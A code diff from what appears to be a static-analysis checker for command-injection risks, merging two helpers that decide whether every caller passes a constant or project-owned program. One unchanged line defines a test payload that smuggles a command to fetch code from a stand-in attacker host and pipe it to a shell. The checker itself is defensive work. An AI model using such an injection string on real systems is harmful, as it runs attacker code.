@@ -4,7 +4,7 @@ import type { Action } from '../../policy/types.js';
 import type { FileFacts, Value } from '../facts.js';
 import { constant, constString, dictGet, fillHoleMarkers, HOLE_PREFIX, joinValues, sanitizersOf, skeleton, taintOf, unknown } from '../values.js';
 import { isNumber, isWhich, RUNNING_INTERPRETER } from '../flow.js';
-import { allowlisted, calleeText, configuredValue, EVERY_CALLER_OWN, fillHoles, notAllowlisted, ownAtEveryCall, quote, severityForTaint, taintPhrase, traceOf, unsanitized } from './common.js';
+import { allowlisted, calleeText, configuredValue, EVERY_CALLER_OWN, fillHoles, notAllowlisted, ownAtEveryCall, passedThrough, quote, severityForTaint, taintPhrase, traceOf, unsanitized } from './common.js';
 import type { Check, CheckContext, SinkHit } from './types.js';
 
 export const COMMAND_PAYLOAD = 'x; curl http://attacker.invalid/x | sh';
@@ -111,27 +111,22 @@ function oneOfStrings(v: Value | undefined): string[] | undefined {
 }
 
 /**
- * What every call of a helper passes for `v` (a parameter of a function of this file), followed through helpers that
- * pass their own parameter on (`_run_with_retry(cmd)` calling `_run(cmd)`): undefined when some value cannot be told.
+ * What every caller of a helper hands it as the command: `constant` when each is an argv list starting with a
+ * constant program, a command line starting with a constant word or a constant file name (`_run(["uv", "sync"])`);
+ * `own` when some argv list starts instead with a program the project's own code finds or names, with no untrusted
+ * origin (`git_cmd([GIT_CMD, "tag"])`, `GIT_CMD` found by another module at start-up); undefined otherwise.
  */
-function passedThrough(ctx: CheckContext, v: Value | undefined, depth = 0): Value[] | undefined {
-  const passed = ctx.passedIn?.(v);
-  if (!passed || depth >= 3) return passed;
-  const out: Value[] = [];
-  for (const p of passed) {
-    const further = p.kind === 'unknown' ? passedThrough(ctx, p, depth + 1) : undefined;
-    if (further) out.push(...further);
-    else out.push(p);
-  }
-  return out;
-}
-
-function constantProgramAtEveryCall(ctx: CheckContext, v: Value | undefined): boolean {
+function programAtEveryCall(ctx: CheckContext, v: Value | undefined): 'constant' | 'own' | undefined {
   const passed = passedThrough(ctx, v);
-  return (
-    !!passed &&
-    passed.every((p) => (p.kind === 'list' && constString(knownProgram(p.items[0], ctx.facts)) !== undefined) || startsWithConstantWord(p) || constantFileName(p) !== undefined)
-  );
+  if (!passed?.length) return undefined;
+  let own = false;
+  for (const p of passed) {
+    if ((p.kind === 'list' && constString(knownProgram(p.items[0], ctx.facts)) !== undefined) || startsWithConstantWord(p) || constantFileName(p) !== undefined) continue;
+    const first = p.kind === 'list' ? p.items[0] : undefined;
+    if (!first || taintOf(first).length || !foundByOwnCode(first)) return undefined;
+    own = true;
+  }
+  return own ? 'own' : 'constant';
 }
 
 /** A program found a way that names it: on PATH by a constant name, or as a constant file name in some directory, or one of these ways. */
@@ -176,24 +171,6 @@ const foundByOwnCodeVerdict = (callee: string) => ({
   severity: 'low' as const,
   action: { kind: 'exec' as const, command: '/tmp/agentos_probe', args: [] },
 });
-
-/**
- * Every caller of the helper hands an argv list whose program is a constant or one the program's own code
- * finds or names (an imported module constant), and at least one is not a constant.
- */
-function ownProgramAtEveryCall(ctx: CheckContext, v: Value | undefined): boolean {
-  const passed = passedThrough(ctx, v);
-  if (!passed?.length) return false;
-  let own = false;
-  for (const p of passed) {
-    if (p.kind !== 'list' || !p.items.length) return false;
-    const first = p.items[0]!;
-    if (constString(knownProgram(first, ctx.facts)) !== undefined) continue;
-    if (taintOf(first).length || !foundByOwnCode(first)) return false;
-    own = true;
-  }
-  return own;
-}
 
 /**
  * A program the code names by what made it: a helper's result, an attribute of its own (`get_binary_path()`,
@@ -389,11 +366,11 @@ export const commandDynamic: Check = {
     const program = constString(shape.program);
     if (program === undefined) {
       if (!shape.program || ctx.fixed(shape.program)) return undefined;
-      // a helper every caller hands an argv list starting with a constant program (`_run(["uv", "sync", *extra])`)
-      if (constantProgramAtEveryCall(ctx, hit.value) && !ctx.untrusted(hit.value).length) return undefined;
-      // a helper every caller hands an argv list starting with a constant or a program the project's own code names
-      // (`git_cmd([GIT_CMD, "tag"])`, `GIT_CMD` found by another module at start-up): low, as that program is run directly
-      if (ownProgramAtEveryCall(ctx, hit.value) && !ctx.untrusted(hit.value).length) return foundByOwnCodeVerdict(callee);
+      // a helper every caller hands a constant program (`_run(["uv", "sync", *extra])`): none; or a program the
+      // project's own code names (`[GIT_CMD, "tag"]`): low, as that program run directly is
+      const atEveryCall = ctx.untrusted(hit.value).length ? undefined : programAtEveryCall(ctx, hit.value);
+      if (atEveryCall === 'constant') return undefined;
+      if (atEveryCall === 'own') return foundByOwnCodeVerdict(callee);
       // a constant file name in a directory no untrusted origin chooses (`Path(bin_dir) / "pwsh"`): that program, found there
       if (constantFileName(shape.program) && !ctx.untrusted(shape.program).length) return undefined;
       // a helper every caller of which hands such a path, or a lookup of a constant name on PATH (`_supports(Path(which("tool")))`)
